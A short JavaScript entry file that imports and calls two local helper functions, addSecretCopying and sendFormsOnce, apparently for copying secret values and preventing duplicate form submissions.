import { addSecretCopying } from './copy-secret.js';
import { sendFormsOnce } from './send-once.js';

addSecretCopying();
sendFormsOnce();
